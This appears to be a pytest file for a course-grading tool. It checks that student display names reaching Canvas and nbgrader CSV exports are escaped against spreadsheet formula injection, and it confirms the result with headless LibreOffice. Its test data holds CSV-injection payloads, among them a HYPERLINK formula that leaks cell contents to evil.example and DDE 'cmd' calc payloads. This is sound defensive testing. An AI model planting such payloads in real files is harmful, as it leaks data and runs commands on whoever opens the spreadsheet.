"""No CSV export makes a spreadsheet run a formula (issue 23, item 4).

A student chooses the display name an LMS writes into a download's file or folder names; intake keeps it
as the roster name, and from there it reaches the Canvas CSV and, through nbgrader's gradebook, nbgrader's
own CSV export. Every cell that starts with ``= + - @``, a tab or a carriage return is neutralised
(``assignments/escaping.py``: ``csv_cell``). The end-to-end check opens the CSVs with LibreOffice (headless,
from the OS packages: ``.ci/install-spreadsheet``), which evaluates formulas when it reads a CSV, and
looks for any formula cell in what it read. Without LibreOffice it skips, and with
``COURSE_REQUIRE_TOOLS=1`` (CI) it fails.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path

from assignments.escaping import csv_cell
from assignments.exports import canvas
from assignments.intake import parse_name
from assignments.results import store
from assignments.run_folder import Run
from assignments.workflow import export
from tests.exports.test_exports import record, toy_course
from tests.helpers import tool_unavailable

# Names as they arrive from LMS downloads: a Moodle folder and Canvas file names a student influenced.
HOSTILE_PATHS = [
    '=HYPERLINK("https:\\\\evil.example?leak="&A1,"grades")_555_assignsubmission_file_/toy.ipynb',
    "+cmd|' -C calc'!A0_556_assignsubmission_file_/toy.ipynb",
    "-2+3+cmd|' -C calc'!A0_557_assignsubmission_file_/toy.ipynb",
    "@SUM(1+1)*cmd|' -C calc'!A0_558_assignsubmission_file_/toy.ipynb",
    "\t=1+1_559_assignsubmission_file_/toy.ipynb",
    "\r=1+1_560_assignsubmission_file_/toy.ipynb",
    "=1+1_561_900_toy.ipynb",  # Canvas: the name part of doejane_<user>_<submission>_<file>
]


def test_cells_that_could_start_a_formula_become_text():
    for dangerous in ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+cmd|'/C calc'!A0"]:
        assert csv_cell(dangerous) == "'" + dangerous
    for harmless in ["Jane Doe", "doejane", "12345", "-1.5", "+2", "3e-2", "", "a=b", "O'Brien"]:
        assert csv_cell(harmless) == harmless
    assert csv_cell(None) == "" and csv_cell(2.5) == "2.5"


def hostile_roster() -> dict[str, dict]:
    roster = {}
    for path in HOSTILE_PATHS:
        found = parse_name(path)
        assert found["lms"] in ("moodle", "canvas") and found["name"][:1] in "=+-@\t\r", found
        roster[found["student"]] = {"name": found["name"], "user_id": found["user_id"]}
    return roster


def written_exports(tmp_path: Path) -> list[Path]:
    """The Canvas CSV (one column and per question) and nbgrader's CSV of a class of hostile names."""
    roster = hostile_roster()
    results = []
    for student in roster:
        result = record(student)
        result.assignment = "toy"
        results.append(result)
    root = tmp_path / "course"
    db = toy_course(root)
    folder = tmp_path / "run" / "results"
    for result in results:
        store.save_result(result, folder)
    manifest = tmp_path / "roster.json"
    manifest.write_text(
        json.dumps(
            {
                "assignment": "toy",
                "source": "x.zip",
                "findings": [],
                "missing": [],
                "submissions": [
                    {
                        "student": s,
                        "path": None,
                        "original_name": "toy.ipynb",
                        "name": info["name"],
                        # Canvas writes only Canvas students (issue 43): these names stand for Canvas ones.
                        "lms": "canvas",
                        "user_id": info["user_id"],
                    }
                    for s, info in roster.items()
                ],
            }
        )
    )
    opts = canvas.CanvasOptions(canvas.CanvasAssignment("Homework 1", "4821"), per_question=True)
    run = Run.of_results(folder).with_exports(tmp_path / "exports").with_course(root)
    written = export(run, "toy", ("canvas", "nbgrader"), roster=manifest, db_url=db, canvas_options=opts)
    return written["canvas"] + written["nbgrader"]


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_exported_cell_starts_a_formula(tmp_path):
    paths = written_exports(tmp_path)
    assert len(paths) == 2
    for path in paths:
        found = cells(path)
        assert any(cell.startswith("'=HYPERLINK") for cell in found), f"{path.name}: the hostile name is missing"
        bad = [
            cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.match(r"^-?\d", cell)
        ]
        assert not bad, f"{path.name}: cells a spreadsheet would run: {bad}"


def spreadsheet_formulas(paths: list[Path], work: Path) -> dict[str, list[str]]:
    """Open each CSV in LibreOffice Calc (headless) and return the formulas of the cells it read."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        tool_unavailable("LibreOffice (soffice) is not installed; run .ci/install-spreadsheet")
    out = work / "converted"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{work / 'profile'}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    found = {}
    for path in paths:
        converted = out / f"{path.stem}.fods"
        assert converted.is_file(), f"LibreOffice did not read {path.name}: {done.stdout[-500:]} {done.stderr[-500:]}"
        found[path.name] = re.findall(r'table:formula="([^"]*)"', converted.read_text(encoding="utf-8"))
    return found


def test_libreoffice_finds_no_formula_in_any_csv_export(tmp_path):
    exported = written_exports(tmp_path)
    # The control: the same hostile names written raw, which LibreOffice must read as formulas, so a
    # reader that never evaluates anything cannot make this test pass.
    raw = tmp_path / "raw" / "unneutralised.csv"
    raw.parent.mkdir()
    with open(raw, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Student"]] + [[info["name"]] for info in hostile_roster().values()])
    found = spreadsheet_formulas(exported + [raw], tmp_path / "libreoffice")
    assert found.pop(raw.name), "LibreOffice evaluated no formula in the raw control file"
    assert found == {path.name: [] for path in exported}, f"formulas read from the exports: {found}"
